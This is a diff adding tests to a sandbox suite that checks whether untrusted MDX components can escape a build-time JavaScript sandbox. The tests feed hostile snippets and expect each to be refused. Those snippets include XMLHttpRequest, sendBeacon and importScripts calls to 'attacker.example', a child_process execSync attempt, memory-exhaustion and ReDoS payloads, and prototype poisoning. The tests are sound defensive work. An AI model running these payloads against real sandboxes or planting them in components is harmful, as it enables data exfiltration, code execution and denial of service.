@@ -100,6 +100,37 @@ describe('a component cannot reach outside the sandbox', () => {
       'mdx/component-error',
       /'WebSocket' is not defined/,
     );
+    refused(
+      "export const Evil = () => { const x = new XMLHttpRequest(); x.open('GET', 'https://attacker.example'); return <p>x</p>; };\n",
+      'mdx/component-error',
+      /'XMLHttpRequest' is not defined/,
+    );
+  });
+
+  it('has no navigator.sendBeacon, importScripts or WebAssembly (other ways out to the network or native code)', () => {
+    refused(
+      "export const Evil = () => { navigator.sendBeacon('https://attacker.example', 'x'); return <p>x</p>; };\n",
+      'mdx/component-error',
+      /'navigator' is not defined/,
+    );
+    refused(
+      "export const Evil = () => { importScripts('https://attacker.example/x.js'); return <p>x</p>; };\n",
+      'mdx/component-error',
+      /'importScripts' is not defined/,
+    );
+    refused(
+      'export const Evil = () => { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return <p>x</p>; };\n',
+      'mdx/component-error',
+      /'WebAssembly' is not defined/,
+    );
+  });
+
+  it('cannot require child_process to run a command', () => {
+    refused(
+      "export const Evil = () => { require('child_process').execSync('id'); return <p>x</p>; };\n",
+      'mdx/component-error',
+      /cannot import "child_process"/,
+    );
   });
 
   it('has no QuickJS `std`/`os` modules (files, exec)', () => {
@@ -157,7 +188,45 @@ describe('a component cannot exhaust the build', () => {
     refused(
       "export const Evil = () => { const a = []; for (;;) a.push('x'.repeat(1 << 20) + a.length); };\n",
       'mdx/component-limit',
-      /used too much memory|took too long/,
+      /used too much memory/,
+    );
+  });
+
+  it('many 1 MB buffers, each under any per-allocation check, are stopped at the memory cap (64 MB, not 200)', () => {
+    // QuickJS's own limit let these through (it counts allocations, not bytes, in this build): 200 MB allocated.
+    refused(
+      'export const Evil = () => { const a = []; for (let i = 0; i < 200; i++) a.push(new ArrayBuffer(1 << 20)); return <p>{a.length}</p>; };\n',
+      'mdx/component-limit',
+      /used too much memory/,
+    );
+  });
+
+  it('one huge string or buffer is stopped at the memory cap', () => {
+    refused(
+      "export const Evil = () => <p>{'x'.repeat(2 ** 29).length}</p>;\n",
+      'mdx/component-limit',
+      /used too much memory/,
+    );
+    refused(
+      'export const Evil = () => <p>{new ArrayBuffer(2 ** 30).byteLength}</p>;\n',
+      'mdx/component-limit',
+      /used too much memory/,
+    );
+  });
+
+  it('a catastrophic regular expression (ReDoS) is interrupted', () => {
+    refused(
+      "export const Evil = () => <p>{String(/^(a+)+$/.test('a'.repeat(34) + 'b'))}</p>;\n",
+      'mdx/component-limit',
+      /took too long/,
+    );
+  });
+
+  it('a Proxy whose traps never return, spread into props, is interrupted', () => {
+    refused(
+      'export const Evil = () => { const p = new Proxy({}, { get() { for (;;) {} }, ownKeys() { for (;;) {} } }); return <div {...p}>x</div>; };\n',
+      'mdx/component-limit',
+      /took too long/,
     );
   });
 
@@ -208,6 +277,16 @@ describe('what a component returns is untrusted data', () => {
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
     expect(Object.prototype).not.toHaveProperty('polluted');
     expect(rules(diagnostics).join('\n')).toMatch(/mdx\/unsafe-output .*(`__proto__`|`constructor`)/);
+  });
+
+  it("cannot leave a poisoned built-in (Array.prototype, Object.prototype) for the next page's components", () => {
+    const poisoned = attempt(
+      "Array.prototype.join = function () { return 'POISONED'; };\nObject.prototype.polluted = 'yes';\nexport const Evil = () => <p>{[1, 2].join('+')}</p>;\n",
+    );
+    expect(poisoned.html).toContain('POISONED');
+    const next = attempt(logic("<p>{[1, 2].join('+')}/{String(({}).polluted)}</p>"));
+    expect(next.html).toContain('<p>1+2/undefined</p>');
+    expect(Array.prototype.join.call([1, 2], '+')).toBe('1+2');
   });
 
   it('a <script> element is dropped, with its text', () => {
